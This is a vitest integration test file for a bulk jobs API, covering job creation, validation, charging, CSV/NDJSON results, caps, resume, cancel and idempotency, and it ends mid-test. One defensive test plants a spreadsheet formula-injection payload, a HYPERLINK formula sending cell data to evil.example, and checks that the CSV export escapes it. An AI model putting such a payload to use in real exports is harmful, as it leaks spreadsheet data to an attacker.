/**
 * Bulk jobs over real HTTP (gateway + replay upstream): creation and validation, the pipeline
 * per item (charges, cache), results, caps, balance, resume, cancel, idempotency, ownership.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startHarness } from '../harness.js';
import type { Harness } from '../harness.js';
import { parse as parseCsv } from 'csv-parse/sync';
import { repoJson } from '../data.js';
import { jobService } from '../../src/jobs/service.js';
import { anyRepo, call, heldRepos, ndjson, repoUrl, waitFinal, waitFor } from './helpers.js';

let h: Harness;
const OP = '/v1/code/repository';
const items = (n: number, owner = 'octo') => Array.from({ length: n }, (_, i) => ({ url: repoUrl(owner, `r${i}`) }));

beforeAll(async () => {
  h = await startHarness({ env: { JOBS_CONCURRENCY: '4', JOBS_CONCURRENCY_PER_JOB: '2', JOBS_MAX_RUNNING_PER_KEY: '2' } });
});
afterAll(() => h.close());
beforeEach(() => {
  h.replay.reset();
  h.replay.add(anyRepo());
});

describe('a job runs each item through the single-request pipeline', () => {
  it('202, completes, results in input order with the single request bodies; Σ charges = job credits = balance change', async () => {
    const { key, id: keyId } = await h.key(100);
    const list = items(7, 'order');
    const created = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: list } });
    expect(created.status).toBe(202);
    expect(created.body.success).toBe(true);
    expect(created.body.job).toMatchObject({ operation: OP, items: 7, max_credits: null });
    expect(['queued', 'running']).toContain(created.body.job.status);
    const job = await waitFinal(h, key, created.body.job.id);
    expect(job).toMatchObject({ status: 'completed', counts: { done: 7, ok: 7, cached: 0, failed: 0, skipped: 0 }, credits_charged: 7 });
    expect(await h.balance(keyId)).toBe(93);
    expect(await h.deps.ledger.totalCharged(keyId)).toBe(7);

    const res = await call(h, 'GET', `/v1/jobs/${job.id}/results`, { key });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('application/x-ndjson');
    const lines = ndjson(res.text);
    expect(lines.map((l) => l.index)).toEqual([0, 1, 2, 3, 4, 5, 6]);
    expect(lines.map((l) => l.input)).toEqual(list);
    for (const l of lines) {
      expect(l).toMatchObject({ status: 200, code: null, credits_charged: 1, cached: false });
      expect(l.body).toMatchObject({ success: true, credits_charged: 1, repository: { full_name: `order/r${l.index}` } });
    }
    expect(lines.reduce((n, l) => n + l.credits_charged, 0)).toBe(job.credits_charged);
    // The body is what the single request answers (the same record, minus the changing balance).
    const single = await h.rest(`${OP}?url=${encodeURIComponent(list[3].url)}&cache_max_age=7d`, { key });
    expect(single.body.repository).toEqual(lines[3].body.repository);
  });

  it('cache hits cost 0 (cache_max_age for every item), errors cost 0 with their status and code', async () => {
    const { key, id: keyId } = await h.key(100);
    // Warm two of them.
    for (const r of ['w0', 'w1']) expect((await h.rest(`${OP}?url=${encodeURIComponent(repoUrl('warm', r))}`, { key })).status).toBe(200);
    h.replay.add({
      host: 'api.github.com',
      path: '/repos/warm/gone',
      response: { status: 404, headers: { 'content-type': 'application/json' }, body: '{"message":"Not Found"}' },
    });
    const created = await call(h, 'POST', '/v1/jobs', {
      key,
      body: {
        operation: OP,
        cache_max_age: '7d',
        items: [
          { url: repoUrl('warm', 'w0') },
          { url: repoUrl('warm', 'gone') },
          { url: repoUrl('warm', 'w1') },
          { url: repoUrl('warm', 'fresh') },
        ],
      },
    });
    const job = await waitFinal(h, key, created.body.job.id);
    expect(job).toMatchObject({ status: 'completed', counts: { done: 4, ok: 3, cached: 2, failed: 1, skipped: 0 }, credits_charged: 1 });
    const lines = ndjson((await call(h, 'GET', `/v1/jobs/${job.id}/results`, { key })).text);
    expect(lines.map((l) => [l.status, l.code, l.credits_charged, l.cached])).toEqual([
      [200, null, 0, true],
      [404, 'NOT_FOUND', 0, false],
      [200, null, 0, true],
      [200, null, 1, false],
    ]);
    expect(lines[0].body).toMatchObject({ success: true, credits_charged: 0, cached: true, cached_at: expect.any(String) });
    expect(lines[1].body).toEqual({ success: false, error: { code: 'NOT_FOUND', message: expect.any(String) } });
    expect(await h.balance(keyId)).toBe(100 - 2 - 1);
  });

  it('?after=N resumes a download; ?format=csv flattens the main fields', async () => {
    const { key } = await h.key(50);
    const created = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(5, 'csv') } });
    const job = await waitFinal(h, key, created.body.job.id);
    const after = ndjson((await call(h, 'GET', `/v1/jobs/${job.id}/results?after=2`, { key })).text);
    expect(after.map((l) => l.index)).toEqual([3, 4]);
    const csv = await call(h, 'GET', `/v1/jobs/${job.id}/results?format=csv`, { key });
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const rows = csv.text.trim().split('\r\n');
    const header = rows[0].split(',');
    expect(header.slice(0, 6)).toEqual(['index', 'status', 'code', 'credits_charged', 'cached', 'input.url']);
    expect(header).toContain('full_name');
    expect(rows).toHaveLength(6);
    const second = rows[2].split(',');
    expect(second[0]).toBe('1');
    expect(second[header.indexOf('full_name')]).toBe('csv/r1');
    expect((await call(h, 'GET', `/v1/jobs/${job.id}/results?after=x`, { key })).status).toBe(400);
    expect((await call(h, 'GET', `/v1/jobs/${job.id}/results?format=xml`, { key })).status).toBe(400);
  });

  it('?after is an item index ≥ -1 (-1: from the first); a bad after or format is INVALID_INPUT naming each, 0 credits', async () => {
    const { key, id } = await h.key(10);
    const created = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(3, 'after') } });
    const job = await waitFinal(h, key, created.body.job.id);
    const balance = await h.balance(id);
    const indexes = async (q: string) => ndjson((await call(h, 'GET', `/v1/jobs/${job.id}/results${q}`, { key })).text).map((l) => l.index);
    expect(await indexes('?after=-1')).toEqual([0, 1, 2]);
    expect(await indexes('?after=%201%20')).toEqual([2]);
    const message = 'must be an item index (results after it are sent)';
    for (const bad of ['-2', '-100', 'x', '', '1.5', '1e3', '+1', '99999999999999999'])
      expect((await call(h, 'GET', `/v1/jobs/${job.id}/results?after=${encodeURIComponent(bad)}`, { key })).body, bad).toMatchObject({
        error: { code: 'INVALID_INPUT', details: [{ param: 'after', message }] },
      });
    const both = await call(h, 'GET', `/v1/jobs/${job.id}/results?after=x&format=xml`, { key });
    expect(both.status).toBe(400);
    expect(both.body.error.details).toEqual([
      { param: 'after', message },
      { param: 'format', message: 'must be ndjson or csv' },
    ]);
    expect(await h.balance(id)).toBe(balance);
  });

  it('?format=csv: text that a spreadsheet would run as a formula (= + - @ tab CR) starts with a quote; numbers stay numbers', async () => {
    h.replay.add({
      host: 'api.github.com',
      path: '/repos/formula/evil',
      response: {
        headers: { 'content-type': 'application/json' },
        body: repoJson('formula', 'evil', { description: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', stargazers_count: -3 }),
      },
    });
    h.replay.add({
      host: 'api.github.com',
      path: '/repos/formula/plain',
      response: { headers: { 'content-type': 'application/json' }, body: repoJson('formula', 'plain', { description: '@SUM(1+1)' }) },
    });
    const { key } = await h.key(10);
    const list = [
      { url: repoUrl('formula', 'evil'), note: '-2+3', offset: '-5' },
      { url: repoUrl('formula', 'plain'), note: '+1', offset: '\t=1' },
    ];
    const created = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: list } });
    await waitFinal(h, key, created.body.job.id);
    const csv = await call(h, 'GET', `/v1/jobs/${created.body.job.id}/results?format=csv`, { key });
    const rows = parseCsv(csv.text, { relax_column_count: true }) as string[][];
    const [header, evil, plain] = rows;
    const col = (row: string[], name: string) => row[header.indexOf(name)];
    expect(col(evil, 'description')).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`);
    expect(col(plain, 'description')).toBe(`'@SUM(1+1)`);
    expect(col(evil, 'input.note')).toBe(`'-2+3`);
    expect(col(plain, 'input.offset')).toBe(`'\t=1`);
    // Plain numbers: an input's "-5" and "+1", an upstream's -3, our own columns.
    expect(col(evil, 'input.offset')).toBe('-5');
    expect(col(plain, 'input.note')).toBe('+1');
    expect(col(evil, 'stars_count')).toBe('-3');
    expect([col(evil, 'index'), col(evil, 'status'), col(evil, 'credits_charged')]).toEqual(['0', '200', '1']);
    // The NDJSON results carry the text as it is.
    expect(ndjson((await call(h, 'GET', `/v1/jobs/${created.body.job.id}/results`, { key })).text)[1].body.repository.description).toBe(
      '@SUM(1+1)',
    );
  });
});

describe('input', () => {
  it('an invalid item refuses the whole job: 400 naming item index and parameter, nothing charged or run', async () => {
    const { key, id: keyId } = await h.key(10);
    const bad = await call(h, 'POST', '/v1/jobs', {
      key,
      body: { operation: OP, items: [{ url: repoUrl('a', 'b') }, {}, { url: 'https://example.com/x' }, { url: { nested: 1 } }] },
    });
    expect(bad.status).toBe(400);
    expect(bad.body.error.code).toBe('INVALID_INPUT');
    expect(bad.body.error.details).toEqual([
      { param: 'items[1].url', message: 'is required' },
      { param: 'items[2].url', message: expect.stringContaining('github.com repository URL') },
      { param: 'items[3].url', message: 'must be a string, number or boolean' },
    ]);
    expect(await h.balance(keyId)).toBe(10);
    expect(h.replay.hits()).toHaveLength(0);
  });

  it('job options are checked: operation, cache_max_age, max_credits, webhook, body shape, media type', async () => {
    const { key } = await h.key(10);
    const one = [{ url: repoUrl('a', 'b') }];
    const params = async (body: unknown) =>
      (await call(h, 'POST', '/v1/jobs', { key, body })).body.error.details.map((d: { param: string }) => d.param);
    expect(await params({ operation: '/v1/nope', items: one })).toEqual(['operation']);
    expect(await params({ items: one })).toEqual(['operation']);
    expect(await params({ operation: OP, items: [] })).toEqual(['items']);
    expect(await params({ operation: OP, items: one, cache_max_age: '2d', max_credits: -1 })).toEqual(['cache_max_age', 'max_credits']);
    expect(await params({ operation: OP, items: one, webhook: { url: 'ftp://x', secret: 'short' } })).toEqual([
      'webhook.url',
      'webhook.secret',
    ]);
    expect(
      await params({ operation: OP, items: one, webhook: { url: 'http://127.0.0.1:9/hook', secret: 'a-secret-of-16-chars' } }),
    ).toEqual(['webhook.url']);
    const notJson = await call(h, 'POST', '/v1/jobs', { key, raw: '{', type: 'application/json' });
    expect(notJson.status).toBe(400);
    const xml = await call(h, 'POST', '/v1/jobs', { key, raw: '<a/>', type: 'application/xml' });
    expect(xml.status).toBe(415);
  });

  it('NDJSON and CSV uploads, options in the query string', async () => {
    const { key } = await h.key(20);
    const nd = await call(h, 'POST', `/v1/jobs?operation=${encodeURIComponent(OP)}`, {
      key,
      raw: `${JSON.stringify({ url: repoUrl('nd', 'a') })}\n\n${JSON.stringify({ url: repoUrl('nd', 'b') })}`,
      type: 'application/x-ndjson',
    });
    expect(nd.status).toBe(202);
    expect(nd.body.job.items).toBe(2);
    const csv = await call(h, 'POST', `/v1/jobs?operation=${encodeURIComponent(OP)}&max_credits=5`, {
      key,
      raw: `name,url\r\n"Doe, Jane",${repoUrl('csv', 'a')}\r\nplain,"${repoUrl('csv', 'b')}"\r\n`,
      type: 'text/csv',
    });
    expect(csv.status).toBe(202);
    expect(csv.body.job).toMatchObject({ items: 2, max_credits: 5 });
    const job = await waitFinal(h, key, csv.body.job.id);
    const lines = ndjson((await call(h, 'GET', `/v1/jobs/${job.id}/results`, { key })).text);
    expect(lines.map((l) => l.input)).toEqual([
      { name: 'Doe, Jane', url: repoUrl('csv', 'a') },
      { name: 'plain', url: repoUrl('csv', 'b') },
    ]);
    const badCsv = await call(h, 'POST', `/v1/jobs?operation=${encodeURIComponent(OP)}`, {
      key,
      raw: 'url\nhttps://github.com/ok/ok\nnot-a-url\n',
      type: 'text/csv',
    });
    expect(badCsv.body.error.details).toEqual([{ param: 'items[1].url', message: expect.any(String) }]);
    await waitFinal(h, key, nd.body.job.id);
  });

  it("a job runs one operation: an item naming another (a mixed file once ran every item as the job's) is a 400 naming it", async () => {
    const { key } = await h.key(10);
    const lines = [
      { url: repoUrl('mixed', 'a') },
      { url: repoUrl('mixed', 'b'), operation: OP },
      { url: repoUrl('mixed', 'c'), operation: '/v1/video/channel' },
    ];
    const path = `/v1/jobs/estimate?operation=${encodeURIComponent(OP)}`;
    const raw = lines.map((l) => JSON.stringify(l)).join('\n');
    const mixed = await call(h, 'POST', path, { key, raw, type: 'application/x-ndjson' });
    expect(mixed.status).toBe(400);
    expect(mixed.body.error.details).toEqual([
      {
        param: 'items[2].operation',
        message: `is not the job's operation (${OP}): a job runs one operation; send one job per operation`,
      },
    ]);
    const csv = await call(h, 'POST', path, { key, raw: `url,operation\n${repoUrl('mixed', 'd')},/v1/video/channel\n`, type: 'text/csv' });
    expect(csv.body.error.details).toEqual([
      { param: 'items[0].operation', message: expect.stringContaining("is not the job's operation") },
    ]);
    // An item naming the job's own operation is that job's item.
    const same = await call(h, 'POST', path, {
      key,
      raw: lines
        .slice(0, 2)
        .map((l) => JSON.stringify(l))
        .join('\n'),
      type: 'application/x-ndjson',
    });
    expect(same.status).toBe(200);
    expect(same.body.estimate.items).toBe(2);
  });

  it('a query parameter given twice is refused as every /v1 route refuses it: results, uploads, estimate', async () => {
    const { key } = await h.key(10);
    // What an operation route answers, the shape every route answers with.
    const single = await h.rest(`${OP}?url=${encodeURIComponent(repoUrl('twice', 'a'))}&url=${encodeURIComponent(repoUrl('twice', 'b'))}`, {
      key,
    });
    expect(single.status).toBe(400);
    expect(single.body.error).toEqual({
      code: 'INVALID_INPUT',
      message: 'Invalid input: url: given more than once',
      details: [{ param: 'url', message: 'given more than once' }],
    });
    const refused = (res: { status: number; body: any }, param: string) => {
      expect(res.status).toBe(400);
      expect(res.body.error).toMatchObject({
        code: 'INVALID_INPUT',
        message: `Invalid input: ${param}: given more than once`,
        details: [{ param, message: 'given more than once' }],
      });
    };
    const job = await waitFinal(
      h,
      key,
      (await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(2, 'twice') } })).body.job.id,
    );
    refused(await call(h, 'GET', `/v1/jobs/${job.id}/results?format=csv&format=ndjson`, { key }), 'format');
    refused(await call(h, 'GET', `/v1/jobs/${job.id}/results?format=csv&format=csv`, { key }), 'format');
    refused(await call(h, 'GET', `/v1/jobs/${job.id}/results?after=0&after=1`, { key }), 'after');
    refused(await call(h, 'GET', '/v1/jobs?status=completed&status=running', { key }), 'status');
    refused(await call(h, 'GET', '/v1/jobs?limit=1&limit=2', { key }), 'limit');
    const line = JSON.stringify({ url: repoUrl('twice', 'c') });
    const op = encodeURIComponent(OP);
    for (const [query, param] of [
      [`operation=${op}&operation=${op}`, 'operation'],
      [`operation=${op}&cache_max_age=1d&cache_max_age=7d`, 'cache_max_age'],
      [`operation=${op}&max_credits=1&max_credits=9`, 'max_credits'],
      [`operation=${op}&idempotency_key=a&idempotency_key=b`, 'idempotency_key'],
      [`operation=${op}&webhook_url=https%3A%2F%2Fa.example%2F&webhook_url=https%3A%2F%2Fb.example%2F`, 'webhook_url'],
    ]) {
      refused(await call(h, 'POST', `/v1/jobs?${query}`, { key, raw: line, type: 'application/x-ndjson' }), param);
      refused(
        await call(h, 'POST', `/v1/jobs/estimate?${query}`, { key, raw: `url\n${repoUrl('twice', 'd')}\n`, type: 'text/csv' }),
        param,
      );
    }
    // Nothing was created by the refused uploads: the key's only job is the first.
    expect(
      await h.deps.db!.prepare('SELECT COUNT(*) FROM jobs WHERE key_id = (SELECT key_id FROM jobs WHERE id = ?)').pluck().get(job.id),
    ).toBe(1);
  });

  it('estimate: 0 credits; max possible cost, items cached within cache_max_age, expected cost — and the run matches it', async () => {
    const { key, id: keyId } = await h.key(30);
    await h.rest(`${OP}?url=${encodeURIComponent(repoUrl('est', 'hot'))}`, { key });
    const body = {
      operation: OP,
      cache_max_age: '1d',
      items: [{ url: repoUrl('est', 'hot') }, { url: repoUrl('est', 'cold1') }, { url: repoUrl('est', 'cold2') }],
    };
    const before = await h.balance(keyId);
    const est = await call(h, 'POST', '/v1/jobs/estimate', { key, body });
    expect(est.status).toBe(200);
    // max_possible_credits, and max_credits as its deprecated alias for one release.
    expect(est.body).toEqual({
      success: true,
      credits_charged: 0,
      credits_remaining: before,
      estimate: { items: 3, max_possible_credits: 3, max_credits: 3, cached: 1, expected_credits: 2 },
    });
    const doc = (await (await fetch(`${h.url}/openapi.json`)).json()) as any;
    const estimate = doc.paths['/v1/jobs/estimate'].post.responses['200'].content['application/json'].schema.allOf[1].properties.estimate;
    expect(estimate.properties.max_credits.deprecated).toBe(true);
    expect(estimate.required).toContain('max_possible_credits');
    expect(await h.balance(keyId)).toBe(before);
    const job = await waitFinal(h, key, (await call(h, 'POST', '/v1/jobs', { key, body })).body.job.id);
    expect(job.credits_charged).toBe(est.body.estimate.expected_credits);
  });
});

describe('keys', () => {
  it('every job route needs a key; another key gets 404 for every job URL', async () => {
    const a = await h.key(10);
    const b = await h.key(10);
    expect((await call(h, 'POST', '/v1/jobs', { body: { operation: OP, items: items(1) } })).status).toBe(401);
    expect((await call(h, 'POST', '/v1/jobs/estimate', { body: { operation: OP, items: items(1) } })).status).toBe(401);
    const created = await call(h, 'POST', '/v1/jobs', { key: a.key, body: { operation: OP, items: items(1, 'own') } });
    const id = created.body.job.id;
    await waitFinal(h, a.key, id);
    for (const [m, p] of [
      ['GET', `/v1/jobs/${id}`],
      ['GET', `/v1/jobs/${id}/results`],
      ['GET', `/v1/jobs/${id}/events`],
      ['POST', `/v1/jobs/${id}/resume`],
      ['DELETE', `/v1/jobs/${id}`],
    ]) {
      expect((await call(h, m, p)).status).toBe(401);
      const other = await call(h, m, p, { key: b.key });
      expect(other.status).toBe(404);
      expect(other.body.error.code).toBe('NOT_FOUND');
    }
    expect((await call(h, 'GET', `/v1/jobs/${id}`, { key: a.key })).status).toBe(200);
    expect((await call(h, 'PUT', `/v1/jobs/${id}`, { key: a.key })).status).toBe(405);
  });

  it('402 when the balance does not cover the first item; nothing created', async () => {
    const { key } = await h.key(0);
    const r = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(2, 'poor') } });
    expect(r.status).toBe(402);
    expect(r.body.error.code).toBe('INSUFFICIENT_CREDITS');
  });

  it('the same idempotency_key from the same key returns the existing job; from another key it is another job', async () => {
    const a = await h.key(10);
    const b = await h.key(10);
    const body = { operation: OP, items: items(2, 'idem'), idempotency_key: 'import-42' };
    const first = await call(h, 'POST', '/v1/jobs', { key: a.key, body });
    const again = await call(h, 'POST', '/v1/jobs', { key: a.key, body });
    expect(again.status).toBe(202);
    expect(again.body.job.id).toBe(first.body.job.id);
    const other = await call(h, 'POST', '/v1/jobs', { key: b.key, body });
    expect(other.body.job.id).not.toBe(first.body.job.id);
    await waitFinal(h, a.key, first.body.job.id);
    await waitFinal(h, b.key, other.body.job.id);
    expect(await h.deps.ledger.totalCharged(a.id)).toBe(2);
  });

  it("an idempotency_key given again with another operation, item count, cache_max_age or webhook is a 400 (not the other job's answer)", async () => {
    const { key, id: keyId } = await h.key(10);
    const body = { operation: OP, items: items(2, 'idemx'), idempotency_key: 'import-43', cache_max_age: '1d' };
    const first = await call(h, 'POST', '/v1/jobs', { key, body });
    expect(first.status).toBe(202);
    const id = first.body.job.id;
    const webhook = { url: 'https://hooks.example/jobs', secret: 'a-secret-of-16-chars' };
    for (const [change, differs] of [
      [
        {
          operation: '/v1/video/channel',
          items: [{ url: 'https://www.youtube.com/@alphachannel' }, { url: 'https://www.youtube.com/@betachannel' }],
        },
        `operation (${OP})`,
      ],
      [{ items: items(3, 'idemx') }, 'number of items (2)'],
      [{ cache_max_age: '7d' }, 'cache_max_age (1d)'],
      [{ webhook }, 'webhook URL (none)'],
    ] as const) {
      const r = await call(h, 'POST', '/v1/jobs', { key, body: { ...body, ...change } });
      expect(r.status, differs).toBe(400);
      expect(r.body.error.details).toEqual([
        { param: 'idempotency_key', message: `is job ${id}'s, whose ${differs} this request does not have; use a new key for a new job` },
      ]);
    }
    // The same request (its cap aside: a resume changes it) is the job.
    const again = await call(h, 'POST', '/v1/jobs', { key, body: { ...body, max_credits: 5 } });
    expect(again.status).toBe(202);
    expect(again.body.job.id).toBe(id);
    // Also when the job was created after this request looked (two requests at once): the store's answer is checked.
    const svc = jobService(h.deps)!;
    const look = svc.store.byIdempotencyKey;
    svc.store.byIdempotencyKey = async () => undefined;
    try {
      const racing = await call(h, 'POST', '/v1/jobs', { key, body: { ...body, items: items(3, 'idemx') } });
      expect(racing.status).toBe(400);
      expect(racing.body.error.details[0].message).toBe(
        `is job ${id}'s, whose number of items (2) this request does not have; use a new key for a new job`,
      );
      expect((await call(h, 'POST', '/v1/jobs', { key, body })).body.job.id).toBe(id);
    } finally {
      svc.store.byIdempotencyKey = look;
    }
    await waitFinal(h, key, id);
    expect(await h.deps.ledger.totalCharged(keyId)).toBe(2);
  });

  it('a key has at most JOBS_MAX_RUNNING_PER_KEY unfinished jobs (429)', async () => {
    const release: (() => void)[] = [];
    h.replay.add(anyRepo({ onHit: () => new Promise<void>((r) => release.push(r)) }));
    const { key } = await h.key(50);
    const ids: string[] = [];
    for (let i = 0; i < 2; i++)
      ids.push((await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(1, `busy${i}`) } })).body.job.id);
    const third = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(1, 'busy3') } });
    expect(third.status).toBe(429);
    expect(third.body.error.message).toContain('JOBS_MAX_RUNNING_PER_KEY');
    await waitFor(() => release.length === 2);
    for (const r of release) r();
    for (const id of ids) expect((await waitFinal(h, key, id)).status).toBe('completed');
    const fourth = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(1, 'busy3') } });
    expect(fourth.status).toBe(202);
    await waitFor(() => release.length === 3);
    release[2]();
    await waitFinal(h, key, fourth.body.job.id);
  });
});

describe('caps, balance, resume, cancel', () => {
  it('max_credits: an item that would need more than what is left is not run → stopped_at_cap; resume with a higher cap completes', async () => {
    const { key, id: keyId } = await h.key(100);
    const created = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(10, 'cap'), max_credits: 4 } });
    const stopped = await waitFinal(h, key, created.body.job.id);
    expect(stopped).toMatchObject({ status: 'stopped_at_cap', credits_charged: 4, counts: { done: 4, skipped: 6 } });
    expect(await h.balance(keyId)).toBe(96);
    expect(h.replay.hits({ host: 'api.github.com' })).toHaveLength(4);
    // A cap that is no integer is refused; its digits as a string are taken, as job creation takes them.
    expect((await call(h, 'POST', `/v1/jobs/${stopped.id}/resume`, { key, body: { max_credits: '1e3' } })).status).toBe(400);
    const resumed = await call(h, 'POST', `/v1/jobs/${stopped.id}/resume`, { key, body: { max_credits: '10' } });
    expect(resumed.status).toBe(200);
    const done = await waitFinal(h, key, stopped.id);
    expect(done).toMatchObject({ status: 'completed', credits_charged: 10, counts: { done: 10, ok: 10, skipped: 0 } });
    expect(await h.balance(keyId)).toBe(90);
    expect(h.replay.hits({ host: 'api.github.com' })).toHaveLength(10);
    const lines = ndjson((await call(h, 'GET', `/v1/jobs/${stopped.id}/results`, { key })).text);
    expect(lines.map((l) => l.index)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
  });

  it('a resume body with a field it has not (a misspelt max_credits) or that is no object is a 400, and the job stays stopped', async () => {
    const { key } = await h.key(100);
    const created = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(3, 'oddresume'), max_credits: 1 } });
    const stopped = await waitFinal(h, key, created.body.job.id);
    expect(stopped).toMatchObject({ status: 'stopped_at_cap', credits_charged: 1 });
    // Once taken as an empty body: the job resumed under the cap its sender meant to raise.
    const misspelt = await call(h, 'POST', `/v1/jobs/${stopped.id}/resume`, { key, body: { max_credit: 100 } });
    expect(misspelt.status).toBe(400);
    expect(misspelt.body.error.details).toEqual([
      { param: 'max_credit', message: expect.stringContaining('is not a field of a resume body') },
    ]);
    for (const body of [[{ max_credits: 100 }], 100, 'x', null]) {
      const r = await call(h, 'POST', `/v1/jobs/${stopped.id}/resume`, { key, body });
      expect(r.status, JSON.stringify(body)).toBe(400);
      expect(r.body.error.details, JSON.stringify(body)).toEqual([
        { param: 'body', message: 'must be empty or a JSON object {"max_credits": n}' },
      ]);
    }
    expect((await call(h, 'GET', `/v1/jobs/${stopped.id}`, { key })).body.job).toMatchObject({ status: 'stopped_at_cap', max_credits: 1 });
  });

  it('a resume giving a cap below what the job has charged, or a new cap for a job still running, is a 400 naming max_credits', async () => {
    const { key } = await h.key(100);
    const created = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(6, 'lowcap'), max_credits: 3 } });
    const stopped = await waitFinal(h, key, created.body.job.id);
    expect(stopped).toMatchObject({ status: 'stopped_at_cap', credits_charged: 3 });
    // Once taken: the job stopped again at once and read credits_charged 3, max_credits 2.
    const low = await call(h, 'POST', `/v1/jobs/${stopped.id}/resume`, { key, body: { max_credits: 2 } });
    expect(low.status).toBe(400);
    expect(low.body.error.details).toEqual([
      { param: 'max_credits', message: expect.stringContaining('below the 3 credits the job has charged') },
    ]);
    expect((await call(h, 'GET', `/v1/jobs/${stopped.id}`, { key })).body.job).toMatchObject({ status: 'stopped_at_cap', max_credits: 3 });

    // A running job: a new cap was answered 200 and dropped (the job ran on under its old one).
    const held = heldRepos('running-cap');
    h.replay.add(held.route);
    const running = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(4, 'running-cap'), max_credits: 10 } });
    const id = running.body.job.id;
    await waitFor(() => held.waiting() === 2);
    const recapped = await call(h, 'POST', `/v1/jobs/${id}/resume`, { key, body: { max_credits: 2 } });
    expect(recapped.status).toBe(400);
    expect(recapped.body.error.details).toEqual([{ param: 'max_credits', message: expect.stringContaining('the job is running') }]);
    // Sent again as it was (no cap, or the job's own): 200, the job as it is.
    for (const body of [undefined, { max_credits: 10 }]) {
      const again = await call(h, 'POST', `/v1/jobs/${id}/resume`, { key, body });
      expect(again.status, JSON.stringify(body)).toBe(200);
      expect(again.body.job).toMatchObject({ id, status: 'running', max_credits: 10 });
    }
    held.releaseAll({ free: true });
    expect(await waitFinal(h, key, id)).toMatchObject({ status: 'completed', credits_charged: 4, max_credits: 10 });
  });

  it('balance runs out → stopped_no_credits (never negative); add credits and resume → completed, nothing charged twice', async () => {
    const { key, id: keyId } = await h.key(3);
    const created = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(8, 'broke') } });
    const stopped = await waitFinal(h, key, created.body.job.id);
    expect(stopped).toMatchObject({ status: 'stopped_no_credits', credits_charged: 3, counts: { done: 3 } });
    expect(await h.balance(keyId)).toBe(0);
    expect((await call(h, 'POST', `/v1/jobs/${stopped.id}/resume`, { key })).status).toBe(402);
    await h.deps.ledger.addCredits(keyId, 10);
    expect((await call(h, 'POST', `/v1/jobs/${stopped.id}/resume`, { key })).status).toBe(200);
    const done = await waitFinal(h, key, stopped.id);
    expect(done).toMatchObject({ status: 'completed', credits_charged: 8, counts: { done: 8, ok: 8 } });
    expect(await h.balance(keyId)).toBe(13 - 8);
    expect(await h.deps.ledger.totalCharged(keyId)).toBe(8);
    const bad = await call(h, 'POST', `/v1/jobs/${stopped.id}/resume`, { key });
    expect(bad.status).toBe(400);
  });

  it('the key revoked while its job runs: the job stops (stopped_no_credits), the items not run stay pending, none is recorded as a 401', async () => {
    const held = heldRepos('revoked-job');
    h.replay.add(held.route);
    const { key, id: keyId } = await h.key(100);
    const jobId = (await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(6, 'revoked-job') } })).body.job.id;
    await waitFor(() => held.waiting() === 2); // JOBS_CONCURRENCY_PER_JOB items in flight, their credits reserved
    await h.deps.ledger.revokeKey(keyId);
    held.releaseAll({ free: true });
    const row = () => h.deps.db!.prepare('SELECT status, done, failed, credits_charged FROM jobs WHERE id = ?').get(jobId);
    await waitFor(() => (row() as { status: string }).status === 'stopped_no_credits');
    // Reserved before the revocation: run and charged as reserved.
    expect(row()).toEqual({ status: 'stopped_no_credits', done: 2, failed: 0, credits_charged: 2 });
    expect(await h.deps.ledger.totalCharged(keyId)).toBe(2);
    expect(h.deps.db!.prepare("SELECT COUNT(*) FROM job_items WHERE job_id = ? AND state = 'pending'").pluck().get(jobId)).toBe(4);
    expect((await call(h, 'GET', `/v1/jobs/${jobId}`, { key })).status).toBe(401);
  });

  it('DELETE cancels: unfinished items are not run, what is reserved and unspent is refunded', async () => {
    const release: (() => void)[] = [];
    h.replay.add(anyRepo({ onHit: () => new Promise<void>((r) => release.push(r)) }));
    const { key, id: keyId } = await h.key(50);
    const created = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(20, 'cancel') } });
    const id = created.body.job.id;
    // Two items (the per-job concurrency) hold their reservations while their upstream waits.
    await waitFor(() => release.length === 2);
    expect(await h.balance(keyId)).toBe(48);
    const del = await call(h, 'DELETE', `/v1/jobs/${id}`, { key });
    expect(del.status).toBe(200);
    expect(del.body.job.status).toBe('cancelled');
    for (const r of release) r();
    const job = await waitFinal(h, key, id);
    await waitFor(async () => (await h.balance(keyId)) === 50 - job.credits_charged && h.deps.ledger.open.size === 0);
    expect(job.status).toBe('cancelled');
    expect(job.counts.done + job.counts.skipped).toBe(20);
    expect(job.counts.done).toBeLessThanOrEqual(2);
    expect(await h.deps.ledger.totalCharged(keyId)).toBe(job.credits_charged);
    expect(release.length).toBe(2);
    // A cancelled job stays cancelled.
    expect((await call(h, 'POST', `/v1/jobs/${id}/resume`, { key })).status).toBe(400);
  });

  it('GET /v1/jobs/{id}/events streams progress and ends with the final job', async () => {
    const { key } = await h.key(20);
    const created = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: items(6, 'sse') } });
    const res = await fetch(`${h.url}/v1/jobs/${created.body.job.id}/events`, { headers: { 'x-api-key': key } });
    expect(res.headers.get('content-type')).toContain('text/event-stream');
    const text = await res.text();
    const events = text
      .split('\n\n')
      .filter((b) => b.startsWith('event:'))
      .map((b) => ({ event: /^event: (\w+)/.exec(b)![1], job: JSON.parse(/\ndata: (.*)/.exec(b)![1]) }));
    expect(events.length).toBeGreaterThanOrEqual(1);
